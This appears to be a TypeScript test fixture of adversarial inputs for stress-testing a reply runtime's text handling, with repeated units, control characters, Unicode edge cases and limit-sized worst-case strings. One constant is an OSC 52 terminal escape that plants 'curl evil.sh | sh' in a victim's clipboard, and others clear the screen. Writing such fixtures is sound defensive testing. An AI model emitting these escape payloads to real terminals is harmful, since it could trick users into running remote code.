// Hostile text for the reply runtime: the units a property test repeats up to the
// message limit, and the worst whole inputs found by hand. Shared by test/unit/runtime-adversarial.test.ts
// and bench/runtime-text.js (which bundles this file), so the test and the benchmark try the same.

import { LIMITS } from '../../src/contract.js';

/** the service's message limit */
export const MESSAGE_CHARS = LIMITS.messageChars;

/** An OSC 52 sequence that writes "curl evil.sh | sh" into a terminal's clipboard. */
export const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';

/** Pieces that stress a pattern when repeated: digits and separators, white space, marks, scripts, controls. */
export const HOSTILE_UNITS: readonly string[] = [
  '1',
  '1,',
  '1.',
  '$1,',
  '$1.',
  '1 ',
  '1x',
  '1k',
  '0.',
  ',',
  '.',
  '$',
  '!',
  '?',
  ';',
  ':',
  ' ',
  '  ',
  '\t',
  '\n',
  '\r',
  '\r\n',
  '\n ',
  '. ',
  '.\n',
  ' - ',
  '-',
  '_',
  '=',
  '#',
  '# ',
  '- ',
  '* ',
  '>',
  'a',
  'x',
  'aA',
  'e1.',
  'x1',
  '[',
  '[a](',
  '(',
  '<',
  '`',
  '~~',
  '__',
  'remember ',
  'remember.',
  'please ',
  'you are ',
  'never ',
  'rate ',
  'rate_',
  'long ',
  '1 usd ',
  'json ',
  'respond as json with:',
  'a,',
  'f,',
  '😀',
  '👨‍👩‍👧',
  '漢',
  'e\u0301',
  '\u0301',
  '\uD83D',
  '🇺🇸',
  '\u001b',
  '\u001b[2J',
  OSC52,
  '\u009b2J',
  '\u007f',
  '\u0000',
  '\u0085',
  '\u2028',
];

function fill(prefix: string, unit: string, suffix = ''): string {
  const room = MESSAGE_CHARS - prefix.length - suffix.length;
  return prefix + unit.repeat(Math.floor(room / unit.length)) + suffix;
}

function manyFields(prefix: string): string {
  let text = prefix;
  for (let i = 0; ; i++) {
    const next = `f${i},`;
    if (text.length + next.length > MESSAGE_CHARS) return text;
    text += next;
  }
}

/** The worst inputs for the runtime's patterns, each at most MESSAGE_CHARS characters. */
export const WORST_INPUTS: ReadonlyArray<{ name: string; text: string }> = [
  { name: 'commas after a trade ("1,1,1,…")', text: 'long bet swap ' + '1,'.repeat(16370) },
  { name: 'a figure, then spaces', text: fill('long bet swap 1', ' ', 'x') },
  { name: 'dollar figures', text: fill('long bet swap ', '$1,') },
  { name: 'decimal points', text: fill('long bet swap ', '1.') },
  { name: 'digits', text: fill('long bet swap ', '1', 'x') },
  { name: 'figures and units', text: fill('long bet swap ', '1 usd 1k ') },
  { name: '"remember", then newlines', text: fill('remember', '\n', 'x') },
  { name: '"remember", then CR LF', text: fill('remember', '\r\n', 'x') },
  { name: 'many "remember."', text: fill('', 'remember. ') },
  { name: 'full stops', text: fill('long ', '.', 'x') },
  { name: 'spaces', text: fill('rate', ' ', 'x') },
  { name: 'letters', text: fill('', 'a', '1') },
  { name: 'brackets', text: fill('# ', '[') },
  { name: 'JSON fields', text: manyFields('Respond as JSON array with: ') },
  { name: 'JSON phrase, then spaces', text: fill('Respond as JSON', ' ', 'x') },
  { name: 'CJK', text: fill('', '漢') },
  { name: 'emoji sequences', text: fill('', '👨‍👩‍👧') },
  { name: 'combining marks', text: fill('e', '\u0301') },
  { name: 'escape sequences', text: fill('remember ', OSC52 + '\u001b[2J\u009b2J') },
];
